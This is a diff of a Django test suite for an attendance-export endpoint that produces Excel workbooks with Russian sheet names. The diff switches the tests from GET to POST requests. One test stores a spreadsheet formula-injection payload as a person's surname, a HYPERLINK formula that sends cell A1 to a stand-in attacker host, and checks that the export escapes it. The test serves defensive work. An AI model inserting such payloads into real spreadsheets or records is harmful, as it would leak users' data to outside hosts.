@@ -106,7 +106,7 @@ def table(sheet):
 
 def test_regional_manager_gets_every_municipality_and_every_named_person(client, world):
     client.force_login(make_regional_manager())
-    workbook = read(client.get(f"/events/{world['event'].pk}/attendance.xlsx"))
+    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
     assert workbook.sheetnames == ["По муниципальным образованиям", "Участники"]
 
     totals = workbook["По муниципальным образованиям"]
@@ -140,7 +140,7 @@ def test_regional_manager_gets_every_municipality_and_every_named_person(client,
 
 def test_municipal_manager_gets_only_their_municipality(client, world):
     client.force_login(make_municipal_manager(world["obninsk"]))
-    workbook = read(client.get(f"/events/{world['event'].pk}/attendance.xlsx"))
+    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
     _heading, rows = table(workbook["По муниципальным образованиям"])
     *by_municipality, grand = rows
     expected = expected_totals(world, [world["obninsk"]])
@@ -155,7 +155,7 @@ def test_municipal_manager_gets_only_their_municipality(client, world):
 
 def test_district_manager_sees_their_settlements_too(client, world):
     client.force_login(make_municipal_manager(world["district"]))
-    workbook = read(client.get(f"/events/{world['event'].pk}/attendance.xlsx"))
+    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
     _heading, rows = table(workbook["По муниципальным образованиям"])
     names = [row[0] for row in rows[:-1]]
     assert names == ["Дзержинский район", "Поселок Полотняный Завод"]
@@ -166,7 +166,7 @@ def test_district_manager_sees_their_settlements_too(client, world):
 
 def test_organizer_gets_everything(client, world):
     client.force_login(make_organizer())
-    workbook = read(client.get(f"/events/{world['event'].pk}/attendance.xlsx"))
+    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
     _heading, rows = table(workbook["По муниципальным образованиям"])
     assert rows[-1][-1] == 18
 
@@ -175,26 +175,26 @@ def test_trainer_who_writes_the_event_page_gets_no_people(client, world):
     trainer = make_writing_trainer()
     assert world["event"].permissions_for_user(trainer).can_edit()
     client.force_login(trainer)
-    assert client.get(f"/events/{world['event'].pk}/attendance.xlsx").status_code == 404
+    assert client.post(f"/events/{world['event'].pk}/attendance.xlsx").status_code == 404
 
 
 def test_servants_strangers_and_missing_events_get_not_found(client, world):
     event = world["event"]
-    response = client.get(f"/events/{event.pk}/attendance.xlsx")
+    response = client.post(f"/events/{event.pk}/attendance.xlsx")
     assert response.status_code == 302 and response["Location"].startswith("/login/")
     client.force_login(world["d"][0])
-    assert client.get(f"/events/{event.pk}/attendance.xlsx").status_code == 404
+    assert client.post(f"/events/{event.pk}/attendance.xlsx").status_code == 404
     client.force_login(make_regional_manager())
-    assert client.post(f"/events/{event.pk}/attendance.xlsx").status_code == 405
+    assert client.get(f"/events/{event.pk}/attendance.xlsx").status_code == 405
     event.unpublish()
-    assert client.get(f"/events/{event.pk}/attendance.xlsx").status_code == 404
-    assert client.get("/events/999999/attendance.xlsx").status_code == 404
+    assert client.post(f"/events/{event.pk}/attendance.xlsx").status_code == 404
+    assert client.post("/events/999999/attendance.xlsx").status_code == 404
 
 
 def test_event_without_attendance_exports_empty_tables(client):
     event = make_event()
     client.force_login(make_regional_manager())
-    workbook = read(client.get(f"/events/{event.pk}/attendance.xlsx"))
+    workbook = read(client.post(f"/events/{event.pk}/attendance.xlsx"))
     _heading, rows = table(workbook["По муниципальным образованиям"])
     assert rows == [("Всего", None, None, None, None, 0)]
     _heading, people = table(workbook["Участники"])
@@ -207,7 +207,8 @@ def test_a_name_from_the_roster_never_runs_as_a_formula(client, world):
     hostile.last_name = '=HYPERLINK("http://evil.example/?"&A1,"Обнинская3")'
     hostile.save()
     client.force_login(make_regional_manager())
-    workbook = read(client.get(f"/events/{world['event'].pk}/attendance.xlsx"))
+    workbook = read(client.post(f"/events/{world['event'].pk}/attendance.xlsx"))
     cells = [cell for row in workbook.worksheets[1].iter_rows(values_only=True) for cell in row if cell]
     assert not any(str(cell).startswith("=") for cell in cells)
     assert any(str(cell).startswith("'=HYPERLINK") for cell in cells)
+
